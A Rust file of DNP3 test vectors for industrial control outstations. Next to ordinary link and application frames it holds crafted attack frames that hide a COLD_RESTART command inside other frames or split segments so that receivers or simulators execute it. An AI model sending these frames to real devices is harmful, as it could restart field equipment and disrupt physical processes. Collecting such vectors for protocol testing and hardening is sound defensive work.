// SPDX-License-Identifier: GPL-2.0

//! Named frames, published or made for attacks that were run against a real outstation. Master
//! 1024, outstation 1, unless the name says otherwise.

use hex_literal::hex;

/// RESET_LINK_STATES.
pub const RESET_LINK: &[u8] = &hex!("05 64 05 C0 01 00 00 04 E9 21");
/// ACK, from the outstation.
pub const ACK: &[u8] = &hex!("05 64 05 00 00 04 01 00 19 A6");
/// REQUEST_LINK_STATUS: the keep-alive.
pub const REQUEST_LINK_STATUS: &[u8] = &hex!("05 64 05 C9 01 00 00 04 A6 57");
/// LINK_STATUS, from the outstation.
pub const LINK_STATUS: &[u8] = &hex!("05 64 05 0B 00 04 01 00 5A 96");
/// A READ of all classes in CONFIRMED_USER_DATA.
pub const READ: &[u8] =
    &hex!("05 64 14 F3 01 00 00 04 0A 3B C0 C3 01 3C 02 06 3C 03 06 3C 04 06 3C 01 06 9A 12");
/// A WRITE of the time.
pub const WRITE: &[u8] =
    &hex!("05 64 12 C4 01 00 00 04 0E 0B C0 C5 02 32 01 07 01 F8 B8 6C AA F0 00 98 98");
/// COLD_RESTART.
pub const COLD_RESTART: &[u8] = &hex!("05 64 08 C4 01 00 00 04 A4 CF C0 C0 0D 9C 86");

/// A COLD_RESTART inside a frame with control octet 0xD4 (function 4 with FCV set), which
/// receivers refuse before they look for a frame in the octets behind `05`.
pub const FRAME_IN_FRAME: &[u8] = &hex!(
    "05 64 25 D4 01 00 00 04 E1 F6 C1 C1 01 00 00 00 00 00 00 00 00 00 00 00 00 00 D5 DE"
    "05 64 08 C4 01 00 00 04 A4 CF C0 C0 0D 9C 86 00 D9 40"
);

/// A valid READ with a COLD_RESTART whole inside it, at octets 28..=42.
pub const CARRIER_B: &[u8] = &hex!(
    "05 64 24 C4 01 00 00 04 94 E9 C1 C1 01 00 00 00 00 00 00 00 00 00 00 00 00 00 D5 DE"
    "05 64 08 C4 01 00 00 04 A4 CF C0 C0 0D 9C 86 31 76"
);
/// Where the COLD_RESTART lies in [`FRAME_IN_FRAME`] and [`CARRIER_B`].
pub const INNER: core::ops::Range<usize> = 28..43;

/// A FIR segment that hides its function code in [`SHORT_FIR_2`].
pub const SHORT_FIR_1: &[u8] = &hex!("05 64 07 C4 01 00 00 04 46 8B 40 C0 36 A1");
/// The continuation of [`SHORT_FIR_1`], with the function code of a COLD_RESTART.
pub const SHORT_FIR_2: &[u8] = &hex!("05 64 07 C4 01 00 00 04 46 8B 81 0D 31 5F");

/// A COLD_RESTART in a segment without FIR, which some small simulators execute.
pub const CONT_RESTART: &[u8] = &hex!("05 64 08 C4 01 00 00 04 A4 CF 80 C0 0D F3 0A");

/// Every vector, with its name.
pub const ALL: &[(&str, &[u8])] = &[
    ("RESET_LINK", RESET_LINK),
    ("ACK", ACK),
    ("REQUEST_LINK_STATUS", REQUEST_LINK_STATUS),
    ("LINK_STATUS", LINK_STATUS),
    ("READ", READ),
    ("WRITE", WRITE),
    ("COLD_RESTART", COLD_RESTART),
    ("FRAME_IN_FRAME", FRAME_IN_FRAME),
    ("CARRIER_B", CARRIER_B),
    ("SHORT_FIR_1", SHORT_FIR_1),
    ("SHORT_FIR_2", SHORT_FIR_2),
    ("CONT_RESTART", CONT_RESTART),
];
